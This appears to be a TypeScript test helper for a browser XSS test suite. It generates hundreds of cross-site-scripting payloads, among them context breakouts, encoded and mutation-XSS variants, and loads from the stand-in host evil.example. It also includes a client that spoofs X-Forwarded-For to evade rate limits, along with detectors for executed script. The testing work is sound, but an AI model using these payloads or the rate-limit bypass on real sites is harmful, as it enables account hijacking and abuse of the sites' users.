import type { BrowserContext, Page } from 'playwright-core';
import { XSS_PAYLOADS } from '../../test/support/xss.ts';

/**
 * Payloads for the browser XSS test. Each one, if it ever runs, calls `window.__xss(id)` with an
 * id naming the field it was typed into and the payload (`ti.p17`: payload 17 in a work title),
 * or asks for something on `https://evil.example/<id>`; so a hit names its field and payload.
 */
export type Template = (marker: string, evil: string) => string;

/** The payloads of test/support/xss.ts, calling the marker instead of alert(). */
const KNOWN: Template[] = XSS_PAYLOADS.map(
  (payload) => (m, h) =>
    payload
      .replace(/alert\((1|2|alt)\)/g, m)
      .replace('msgbox(1)', m)
      .replace('eval(src)', m)
      .replace(/(https?:)?\/\/evil\.example\/[^"'>\s]*/g, h),
);

/** Ways to run script, each placed in every context below. */
const VECTORS: Template[] = [
  (m) => `<script>${m}</script>`,
  (m) => `<img src=x onerror=${m}>`,
  (m) => `<svg onload=${m}>`,
  (m) => `<svg/onload=${m}//`,
  (m) => `<iframe srcdoc="<script>parent.${m}</script>">`,
  (m) => `<details open ontoggle=${m}>`,
  (m) => `<input autofocus onfocus=${m}>`,
  (_, h) => `<script src=${h}.js></script>`,
  (m) => `<a href="javascript:${m}">x</a>`,
  (_, h) => `<style>@import '${h}.css'</style>`,
  (m) => `<body onload=${m}>`,
  (m) => `<video><source onerror=${m}>`,
];

/** What a payload must break out of first: attributes, raw-text elements, comments, CDATA, RTL text. */
const CONTEXTS: ((vector: string) => string)[] = [
  (v) => v,
  (v) => `">${v}`,
  (v) => `'>${v}`,
  (v) => `</textarea>${v}`,
  (v) => `</title>${v}`,
  (v) => `</script>${v}`,
  (v) => `</style>${v}`,
  (v) => `-->${v}`,
  (v) => `</noscript>${v}`,
  (v) => `</option></select>${v}`,
  (v) => `\u202E${v}`,
  (v) => `]]>${v}`,
  (v) => `</template></iframe>${v}`,
  (v) => `<svg><p>${v}`,
];

/** Breaking out of scripts, JSON, templates, URLs and CSS; entity-encoded and namespace-confused markup. */
const SPECIAL: Template[] = [
  // script strings, JSON in a script, client templates
  (m) => `'-${m}-'`,
  (m) => `"-${m}-"`,
  (m) => `';${m};//`,
  (m) => `";${m};//`,
  (m) => `\\';${m};//`,
  (m) => `</script><script>${m}</script>`,
  (m) => `{"x":"</script><script>${m}</script>"}`,
  (m) => `\${${m}}`,
  (m) => `{{constructor.constructor("${m}")()}}`,
  (m) => `<!--<script>${m}</script>-->`,
  // attribute breaking
  (m) => `" onmouseover="${m}" x="`,
  (m) => `' onfocus='${m}' autofocus x='`,
  (m) => `" autofocus onfocus="${m}" x="`,
  (m) => `x onfocus=${m} autofocus x=`,
  (m) => `"><svg onload=${m}>`,
  (m) => `'><img src=x onerror=${m}>`,
  (_, h) => `" style="background:url(${h}.png)" x="`,
  // URLs
  (m) => `javascript:${m}`,
  (m) => ` javascript:${m}`,
  (m) => `JaVaScRiPt:${m}`,
  (m) => `java\tscript:${m}`,
  (m) => `&#106;avascript:${m}`,
  (m) => `data:text/html,<script>${m}</script>`,
  (m) => `<a href=" javascript:${m}">x</a>`,
  (m) => `<a href="javascript&colon;${m}">x</a>`,
  (m) => `<a href="&#x6A;avascript:${m}">x</a>`,
  (m) => `<a href="java&#x0A;script:${m}">x</a>`,
  (m) => `<a href="\u202Ejavascript:${m}">x</a>`,
  (m) => `<form action="javascript:${m}"><button>x</button></form>`,
  (m) => `<iframe src="javascript:parent.${m}">`,
  (m) => `<object data="javascript:${m}">`,
  (m) => `<embed src="javascript:${m}">`,
  (m) => `[x](javascript:${m})`,
  (m) => `![x](x" onerror="${m})`,
  (m) => `<meta http-equiv=refresh content="0;url=javascript:${m}">`,
  (_, h) => `<meta http-equiv=refresh content="0;url=${h}">`,
  // entity-encoded and otherwise disguised markup (must stay text, never be decoded twice)
  (m) => `&lt;script&gt;${m}&lt;/script&gt;`,
  (m) => `&#60;img src=x onerror=${m}&#62;`,
  (m) => `&#x3C;svg onload=${m}&#x3E;`,
  (m) => `&amp;lt;img src=x onerror=${m}&amp;gt;`,
  (m) => `%3Cscript%3E${m}%3C%2Fscript%3E`,
  (m) => `\\u003cscript\\u003e${m}\\u003c/script\\u003e`,
  (m) => `\\x3cimg src=x onerror=${m}\\x3e`,
  (m) => `＜script＞${m}＜/script＞`,
  (m) => `<IMG SRC=x OnErRoR=${m}>`,
  (m) => `<img src=x onerror\n=${m}>`,
  (m) => `<img/src=x/onerror=${m}>`,
  (m) => `<img src=x onerror=${m}//`,
  (m) => `<img src=x onerror="${m}">`,
  (m) => `\u202E"><img src=x onerror=${m}>`,
  // SVG and MathML namespace confusion, mutation XSS
  (m) => `<svg><script>${m}</script></svg>`,
  (m) => `<svg><script href="data:,${m}" />`,
  (m) => `<svg><animate onbegin=${m} attributeName=x dur=1s>`,
  (m) => `<svg><set attributeName=href to="javascript:${m}"/>`,
  (m) => `<svg><a xlink:href="javascript:${m}"><text y=20>x</text></a></svg>`,
  (m) => `<svg></p><style><a id="</style><img src=1 onerror=${m}>">`,
  (m) => `<svg><style><img src=x onerror=${m}></style></svg>`,
  (m) => `<svg><foreignObject><iframe srcdoc="<script>parent.${m}</script>">`,
  (m) => `<math><mtext><table><mglyph><style><img src=x onerror=${m}>`,
  (m) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${m}&gt;">`,
  (m) => `<math><mi xlink:href="javascript:${m}">x</mi></math>`,
  (m) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${m}>`,
  (m) => `<noscript><p title="</noscript><img src=x onerror=${m}>">`,
  (m) => `<!--<img src="--><img src=x onerror=${m}//">`,
  // CSS
  (_, h) => `<div style="background:url(${h}.png)">x</div>`,
  (m) => `<p style="x:expression(${m})">x</p>`,
  (_, h) => `</style><style>*{background:url(${h}.css)}</style>`,
  (_, h) => `<style>*{background-image:url("${h}")}</style>`,
  (_, h) => `<link rel=stylesheet href=${h}.css>`,
  (_, h) => `<base href=${h}/>`,
  (_, h) => `<iframe src=${h}></iframe>`,
  (_, h) => `<object data=${h}.swf></object>`,
  (_, h) => `<embed src=${h}.swf>`,
  // other elements and events
  (m) => `<marquee onstart=${m}>x</marquee>`,
  (m) => `<audio src=x onerror=${m}>`,
  (m) => `<select autofocus onfocus=${m}>`,
  (m) => `<textarea autofocus onfocus=${m}>`,
  (m) => `<button formaction="javascript:${m}">x</button>`,
  (m) => `<a href="https://ok.example/" target="_blank" onfocus="${m}" autofocus>x</a>`,
];

export const TEMPLATES: Template[] = [
  ...KNOWN,
  ...VECTORS.flatMap((vector) =>
    CONTEXTS.map(
      (context): Template =>
        (m, h) =>
          context(vector(m, h)),
    ),
  ),
  ...SPECIAL,
];

export interface Payload {
  /** `field.pN`: the field it is typed into and its number. */
  id: string;
  text: string;
}

/** Every payload, marked for one field (a short code such as `ti` for work titles). */
export function payloadsFor(field: string): Payload[] {
  return TEMPLATES.map((template, i) => {
    const id = `${field}.p${i}`;
    return { id, text: template(`__xss('${id}')`, `https://evil.example/${id}`) };
  });
}

/** Payloads packed into as few values of at most `limit` characters as will hold them, one or more per value. */
export function pack(payloads: Payload[], limit: number, separator = ' '): string[] {
  const values: string[] = [];
  let current = '';
  for (const { text } of payloads) {
    if ([...text].length > limit) continue;
    const joined = current === '' ? text : `${current}${separator}${text}`;
    if ([...joined].length <= limit) current = joined;
    else {
      values.push(current);
      current = text;
    }
  }
  if (current !== '') values.push(current);
  return values;
}

export type FormFields = Record<string, string | string[]>;

export interface FormResponse {
  status: number;
  body: string;
  location?: string;
}

/**
 * A person's session over plain HTTP: keeps cookies and sends the CSRF token of the last page it
 * fetched, as a browser submitting a form would. Quicker than filling forms in Chromium.
 */
export class FormClient {
  readonly cookies = new Map<string, string>();
  private csrf?: string;
  private static requests = 0;

  constructor(
    readonly base: string,
    /**
     * Sends each request from an address of its own (X-Forwarded-For, for a server that trusts
     * it), so that the per-address rate limits meant for people do not stop a test making hundreds.
     */
    readonly newAddressEachRequest = true,
  ) {}

  async request(method: 'GET' | 'POST', path: string, form?: FormFields): Promise<FormResponse> {
    const body = new URLSearchParams();
    for (const [name, value] of Object.entries(form ?? {})) for (const one of [value].flat()) body.append(name, one);
    const response = await fetch(this.base + path, {
      method,
      redirect: 'manual',
      headers: {
        ...(this.newAddressEachRequest ? { 'x-forwarded-for': FormClient.nextAddress() } : {}),
        cookie: [...this.cookies].map(([k, v]) => `${k}=${v}`).join('; '),
        ...(form ? { 'content-type': 'application/x-www-form-urlencoded' } : {}),
      },
      ...(form ? { body: body.toString() } : {}),
    });
    for (const header of response.headers.getSetCookie()) {
      const pair = header.split(';')[0];
      const at = pair.indexOf('=');
      const [name, value] = [pair.slice(0, at).trim(), pair.slice(at + 1).trim()];
      if (value === '' || /max-age=0|expires=Thu, 01 Jan 1970/i.test(header)) this.cookies.delete(name);
      else this.cookies.set(name, value);
      if (name === '_csrf') this.csrf = undefined;
    }
    const text = await response.text();
    const token = /name="csrf-token" content="([^"]+)"/.exec(text);
    if (token) this.csrf = token[1];
    return { status: response.status, body: text, location: response.headers.get('location') ?? undefined };
  }

  private static nextAddress(): string {
    const n = ++FormClient.requests;
    return `10.${(n >> 16) & 255}.${(n >> 8) & 255}.${n & 255}`;
  }

  get(path: string): Promise<FormResponse> {
    return this.request('GET', path);
  }

  async submit(path: string, fields: FormFields): Promise<FormResponse> {
    if (!this.csrf) await this.get('/');
    return this.request('POST', path, { _csrf: this.csrf ?? '', ...fields });
  }

  /** Puts this session's cookies into a browser profile. */
  async share(context: BrowserContext): Promise<void> {
    await context.addCookies([...this.cookies].map(([name, value]) => ({ name, value, url: this.base })));
  }
}

/** What ran, or was asked for, where it must not have been. */
export interface Finding {
  kind: 'script ran' | 'dialog' | 'request to another host' | 'dangerous markup';
  page: string;
  detail: string;
  /** Payload ids named by the finding. */
  ids: string[];
}

export const PAYLOAD_ID = /\b[a-z]{2}\.p\d+\b/g;

/**
 * Watches a browser profile for payloads that run: a call of `window.__xss`, any dialog, any
 * request leaving the test server (aborted). Call before opening pages.
 */
export async function watch(context: BrowserContext, record: (finding: Finding) => void): Promise<void> {
  const local = (url: URL) =>
    ['127.0.0.1', 'localhost'].includes(url.hostname) || !/^https?:|^wss?:/.test(url.protocol);
  await context.exposeBinding('__xss', (source, id: unknown) => {
    record({ kind: 'script ran', page: source.page?.url() ?? '?', detail: String(id), ids: [String(id)] });
  });
  await context.route(
    (url) => !local(url),
    async (route) => {
      const request = route.request();
      const url = request.url();
      record({
        kind: 'request to another host',
        page: request.frame()?.page()?.url() ?? '?',
        detail: `${request.resourceType()} ${url}`,
        ids: url.match(PAYLOAD_ID) ?? [],
      });
      await route.abort();
    },
  );
  context.on('page', (page) => watchDialogs(page, record));
  for (const page of context.pages()) watchDialogs(page, record);
}

function watchDialogs(page: Page, record: (finding: Finding) => void): void {
  page.on('dialog', async (dialog) => {
    record({ kind: 'dialog', page: page.url(), detail: `${dialog.type()}: ${dialog.message()}`, ids: [] });
    await dialog.dismiss().catch(() => undefined);
  });
}

/**
 * Markup on the page as it now stands that could run script when clicked or focused: event
 * handler attributes, script-bearing URLs, inline or foreign scripts, frames, objects, <base>,
 * meta refreshes. The archive's own pages have none of these.
 */
export async function dangerousMarkup(page: Page): Promise<string[]> {
  return page.evaluate(() => {
    const found: string[] = [];
    const bad = /^\s*(javascript|vbscript|data:text\/html)/i;
    const urlAttributes = [
      'href',
      'src',
      'action',
      'formaction',
      'xlink:href',
      'data',
      'srcdoc',
      'to',
      'from',
      'values',
    ];
    const all = document.querySelectorAll('*');
    for (const element of all) {
      const why: string[] = [];
      for (const attribute of element.attributes) {
        const name = attribute.name.toLowerCase();
        if (name.startsWith('on')) why.push(`handler ${name}`);
        if (name === 'srcdoc') why.push('srcdoc');
        if (urlAttributes.includes(name) && bad.test(attribute.value.replace(/[\u0000-\u001f\u202e]/g, '')))
          why.push(`${name}=${attribute.value}`);
      }
      const tag = element.localName;
      if (tag === 'script') {
        const src = element.getAttribute('src');
        if (!src || new URL(src, location.href).origin !== location.origin) why.push('script');
      }
      if (['iframe', 'frame', 'object', 'embed', 'base', 'applet'].includes(tag)) why.push(tag);
      if (tag === 'meta' && element.getAttribute('http-equiv')?.toLowerCase() === 'refresh') why.push('meta refresh');
      if (why.length > 0) found.push(`${why.join(', ')}: ${element.outerHTML.slice(0, 300)}`);
    }
    return found;
  });
}
